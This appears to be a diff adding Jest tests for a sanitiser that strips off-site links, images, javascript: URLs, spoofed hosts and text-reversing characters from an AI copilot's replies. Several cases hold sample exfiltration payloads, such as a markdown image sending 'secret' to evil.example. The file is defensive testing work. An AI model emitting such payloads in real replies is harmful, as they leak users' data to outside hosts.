@@ -1,0 +1,47 @@
+import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+import { replyOf } from '#shared/domain/copilot/account.ts';
+import { cleanReply } from '#shared/domain/copilot/clean-reply.ts';
+import { CopilotRequest } from '#shared/schemas/copilot.ts';
+
+const OWN = ['api.example.org'];
+const NOTHING = { done: [], waiting: [], notDone: [], unknown: [] };
+
+describe('the words of the model', () => {
+  it.each([
+    ['an image of another host', 'Hi ![x](https://evil.example/?q=secret)', 'Hi x'],
+    ['a link to another host', '[Map](https://evil.example/a) here', 'Map here'],
+    ['a link without its protocol', '[Map](//evil.example/a)', 'Map'],
+    ['a link with another protocol', '[Map](javascript:alert(1))', 'Map)'],
+    ['a name before the host', '[Map](https://api.example.org@evil.example/a)', 'Map'],
+    [
+      'a link in a reference',
+      '[Map][1]\n[1]: https://evil.example/a',
+      '[Map][1]\n[1]: (address of evil.example left out)',
+    ],
+    ['an image in HTML', '<img src="https://evil.example/a">', '<img src="(address of evil.example left out)">'],
+    ['a link of the service', '[Roster](https://api.example.org/r/1)', '[Roster](https://api.example.org/r/1)'],
+    ['an address of the service', 'See https://api.example.org/r/1', 'See https://api.example.org/r/1'],
+    ['characters that turn the text', 'Pay \u202Eten\u202C', 'Pay ten'],
+    ['nothing that is visible', '\u200B \u202E', ''],
+  ])('are shown as a reader expects: %s', (_what, said, expected) => {
+    expect(cleanReply(said, OWN)).toBe(expected);
+  });
+
+  it('can always be sent back, whatever they are', () => {
+    const odd = fc.oneof(
+      fc.string({ unit: 'binary', maxLength: 200 }),
+      fc.constantFrom('\ud800', 'x'.repeat(30_000), '\u0000'),
+    );
+    fc.assert(
+      fc.property(fc.array(odd, { maxLength: 5 }), (parts) => {
+        const said = cleanReply(replyOf(NOTHING, parts.join(' ')), OWN);
+        const messages = [
+          { role: 'assistant', content: said },
+          { role: 'user', content: 'Go on' },
+        ];
+        expect(CopilotRequest.safeParse({ messages }).error).toBeUndefined();
+      }),
+    );
+  });
+});
